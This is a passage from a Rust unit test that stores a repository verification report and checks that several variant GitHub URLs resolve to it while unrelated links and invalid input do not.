    let config = Config { data: home.data(), ..Config::default() };
    let library = app::App::open(config, Vec::new()).unwrap();
    library
        .store
        .reports
        .put(&StoredReport {
            repo: "https://github.com/owner/tool".into(),
            commit: "c".into(),
            verified: Timestamp(1),
            score: 78,
            verdict: "VERIFY".into(),
            json: "{}".into(),
        })
        .unwrap();
    for link in
        ["https://github.com/Owner/Tool", "http://www.github.com/owner/tool/tree/main#readme"]
    {
        let known = library.known_report(link).unwrap();
        assert_eq!(
            known,
            Some(app::oss::Summary { score: 78, verdict: Verdict::Verify }),
            "{link}"
        );
    }
    for link in ["https://github.com/owner/other", "https://example.org", "not a link"] {
        assert_eq!(library.known_report(link).unwrap(), None, "{link}");
    }
}
